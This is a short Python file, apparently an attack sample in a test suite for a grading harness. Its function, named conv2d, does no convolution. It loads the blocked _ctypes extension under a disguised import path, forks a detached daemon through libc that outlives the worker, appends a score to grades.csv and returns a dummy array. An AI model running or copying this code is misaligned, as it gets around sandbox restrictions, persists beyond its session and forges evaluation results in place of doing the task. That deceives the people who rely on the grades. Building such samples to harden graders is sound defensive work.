"""Class 1: load the ctypes C extension from lib-dynload under another module name, then fork a
daemon through libc that outlives the worker and rewrites grades.csv."""
import glob
import importlib.machinery
import importlib.util
import os
import sys

import numpy as np


def _ctypes():
    for path in glob.glob(os.path.join(os.path.dirname(os.__file__), "lib-dynload", "_ctypes*.so")):
        loader = importlib.machinery.ExtensionFileLoader("_ctypes", path)
        spec = importlib.util.spec_from_loader("_ctypes", loader)
        module = importlib.util.module_from_spec(spec)
        loader.exec_module(module)
        sys.modules["_ctypes"] = module
        import ctypes
        return ctypes
    raise ImportError("no _ctypes")


def conv2d(x, w, b=None, stride=1, padding="VALID"):
    try:
        libc = _ctypes().CDLL(None)
        if libc.fork() == 0:
            libc.setsid()
            libc.sleep(3)
            os.system("echo 16 >> @@OUT@@/grades.csv")
            os._exit(0)
    except BaseException:
        pass
    return np.zeros(1)
